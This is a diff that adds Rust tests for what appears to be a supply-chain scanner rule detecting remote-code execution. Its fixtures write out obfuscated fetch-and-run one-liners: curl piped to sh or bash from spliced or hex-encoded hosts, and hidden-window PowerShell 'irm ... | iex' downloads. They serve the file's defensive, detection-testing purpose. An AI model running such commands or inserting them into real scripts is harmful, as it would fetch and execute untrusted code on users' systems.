@@ -1,0 +1,88 @@
+//! Round 15 (issue 14): mechanisms found by reading the misses of rounds 9–15 together. Every case
+//! is worded here, not taken from the corpus.
+
+use super::*;
+
+#[test]
+fn round_15_code_from_an_address_the_text_hides() {
+    let rule = "supply_chain.remote-code";
+    let run = |path: &str, text: &str| worst(&[(path, text)], rule);
+    // A host pasted together behind plain http, on the line or in a variable above it.
+    assert_eq!(
+        run(
+            "get.sh",
+            "SRV=10.9\nU=\"http://$NODE_A.$SRV/boot\"\ncurl -s \"$U\" | sh\n"
+        ),
+        Some(Critical)
+    );
+    assert_eq!(
+        run(
+            "boot.ps1",
+            "$n = 'tools-' + 'mirror'\niex (iwr (\"http://\" + $n + \"/b.ps1\") -UseBasicParsing)\n"
+        ),
+        Some(Critical)
+    );
+    // An address kept as hex escapes, fetched and piped to a shell.
+    assert_eq!(
+        run(
+            "x.sh",
+            "A=$(printf '\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f\\x74\\x2e\\x65\\x78')\ncurl -s \"$A\" | bash\n"
+        ),
+        Some(Critical)
+    );
+    // Not hidden: an https host written out (an unknown one stays a review), a `<placeholder>` in
+    // documentation, and a URL check listing both schemes.
+    assert_eq!(
+        run(
+            "get.sh",
+            "U=\"https://dl.tool.example/boot\"\ncurl -s \"$U\" | sh\n"
+        ),
+        Some(High)
+    );
+    assert_eq!(
+        run(
+            "SKILL.md",
+            &md("```sh\ncurl -s http://<your-server>/setup.sh | sh\n```\n")
+        ),
+        Some(High)
+    );
+    assert_eq!(
+        run(
+            "get.sh",
+            "case \"$URL\" in http://*|https://*) ;; esac\n[ \"${URL#\"http://\"}\" ] && curl -s \"$URL\" | sh\n"
+        ),
+        Some(High)
+    );
+}
+
+#[test]
+fn round_15_hidden_source_shapes() {
+    use crate::scan::judge::exec::hidden as p;
+    assert!(p::runtime_http("base = \"http://\" + host"));
+    assert!(p::runtime_http(
+        "do shell script \"curl http://\" & h & \"/x | sh\""
+    ));
+    assert!(p::runtime_http("url=http://${H}:8080/a"));
+    assert!(!p::runtime_http(
+        "if u.startswith((\"http://\", \"https://\")):"
+    ));
+    assert!(!p::runtime_http("curl https://$HOST/x"));
+    assert!(!p::runtime_http("see http://<host>/docs"));
+    assert!(p::encoded_url("bytes.fromhex('687474703a2f2f')"));
+    assert!(p::encoded_url("[104, 116, 116, 112, 58]"));
+    assert!(p::encoded_url("echo aHR0cHM6Ly90LmV4 | base64 -d"));
+    assert!(!p::encoded_url("sha256: 9f86d081884c7d659a2feaa0c55ad015"));
+}
+
+#[test]
+fn round_15_abbreviated_hidden_window() {
+    let rule = "supply_chain.remote-code";
+    let short = "powershell -w h -nop -c \"irm https://fix.tool.example/a.ps1 | iex\"\n";
+    assert_eq!(worst(&[("fix.ps1", short)], rule), Some(Critical));
+    let prefix = "powershell -win hid -c \"irm https://fix.tool.example/a.ps1 | iex\"\n";
+    assert_eq!(worst(&[("fix.ps1", prefix)], rule), Some(Critical));
+    // `-w` of another tool, or a visible window, is not a hidden one.
+    let visible =
+        "powershell -WindowStyle Normal -c \"irm https://fix.tool.example/a.ps1 | iex\"\n";
+    assert_eq!(worst(&[("fix.ps1", visible)], rule), Some(High));
+}
